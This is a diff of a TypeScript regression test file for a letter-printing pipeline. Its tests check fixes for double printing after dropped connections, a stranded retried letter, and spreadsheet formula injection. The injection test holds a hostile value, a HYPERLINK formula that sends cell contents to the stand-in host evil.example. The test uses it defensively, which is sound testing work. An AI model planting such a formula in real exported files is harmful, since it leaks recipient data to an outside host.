@@ -1,4 +1,5 @@
-// The issue 13 red team's findings on the floor (PRINTER=batch, /floor), each a rule now held (they failed before their fixes).
+// The floor's rules (PRINTER=batch, /floor), each guarding a fault found and fixed: a file printed once through dropped
+// connections and a second worker, manifest cells Excel cannot run, a retried letter its batch prints.
 import { mkdtemp, readFile, rm } from 'node:fs/promises'
 import { tmpdir } from 'node:os'
 import { join } from 'node:path'
@@ -8,14 +9,14 @@ import { and, eq, inArray } from 'drizzle-orm'
 import postgres from 'postgres'
 import { letterEvents, letters, printBatches, printBatchHandoffs, printBatchLetters, type LetterStatus } from '@letters/db'
 import { markFailed } from '@letters/production-worker/produce-letter'
-import { printsIn } from '../support/floor-processes.js'
-import { ADMIN_TOKEN } from '../support/context.js'
+import { printsIn } from '@letters/test/support/floor-processes'
+import { ADMIN_TOKEN } from '@letters/test/support/context'
 import { startProductionWorker } from '@letters/production-worker/worker'
-import { silentLog, startPipeline, type Pipeline } from '../support/pipeline.js'
+import { silentLog, startPipeline, type Pipeline } from '@letters/test/support/pipeline'
 import type { App } from '@letters/gateway/app'
-import { singleLetter } from '../support/factories.js'
-import { it } from '../support/fixtures.js'
-import type { Account, PublicClient } from '../support/gateway.js'
+import { singleLetter } from '@letters/test/support/factories'
+import { it } from '@letters/test/support/fixtures'
+import type { Account, PublicClient } from '@letters/test/support/gateway'
 
 const FLOOR_TOKEN = 'floor-token-redteam-0123456789'
 // The held attacks' gateway: the floor open, and only five failed authentications per address.
@@ -78,7 +79,7 @@ async function dropWhileEnvelopesPrint(label: string, options: { secondWorker: b
   }
 }
 
-describe('finding 1: a batch closer whose connection drops while the printer has a file printed it twice', () => {
+describe('fixed: a batch closer whose connection drops while the printer has a file printed it twice', () => {
   it('prints each of the three files once when every backend is terminated while the envelopes are at the printer', { timeout: 60_000 }, async () => {
     // The closer's next round comes 0.4 s after a failed one (BATCH_MAX_WAIT_MS / 10, doubled):
     // before the fix it found the lock free and the envelopes unrecorded (their record's row went
@@ -87,7 +88,7 @@ describe('finding 1: a batch closer whose connection drops while the printer has
   })
 })
 
-describe('finding 1b: with a second worker, its closer took the batch over and printed the file again', () => {
+describe('fixed: with a second worker, its closer took the batch over and printed the file again', () => {
   it('prints each file once when the backends are terminated mid-print with two workers closing batches', { timeout: 60_000 }, async () => {
     // Before the fix, the second worker's closer took the lock the first one lost with its
     // connection and printed the envelopes the printer still had.
@@ -95,7 +96,7 @@ describe('finding 1b: with a second worker, its closer took the batch over and p
   })
 })
 
-describe('finding 2: a recipient name starting with = was a formula in the manifest the floor opens in Excel', () => {
+describe('fixed: a recipient name starting with = was a formula in the manifest the floor opens in Excel', () => {
   it('writes client text that Excel would run (= + - @) with a leading apostrophe, and nothing else changed', { timeout: 60_000 }, async () => {
     pipeline = await startPipeline('rtmanifest', { env: { PRINTER: 'batch', BATCH_MAX_LETTERS: '3', BATCH_MAX_WAIT_MS: '60000' } })
     const formula = '=HYPERLINK("http://evil.example/?d="&A1,"Pulsa aquí")'
@@ -113,7 +114,7 @@ describe('finding 2: a recipient name starting with = was a formula in the manif
   })
 })
 
-describe('finding 3: an ops retry of a failed letter waiting in a tray stranded it in ready_for_print, cancellable, though its batch printed it', () => {
+describe('fixed: an ops retry of a failed letter waiting in a tray stranded it in ready_for_print, cancellable, though its batch printed it', () => {
   it('leaves the batched letter to its batch: not cancellable, and printed when the batch is handed over', { timeout: 60_000 }, async () => {
     pipeline = await startPipeline('rtretry', { env: { PRINTER: 'batch', BATCH_MAX_LETTERS: '2', BATCH_MAX_WAIT_MS: '60000' } })
     const db = pipeline.app.db
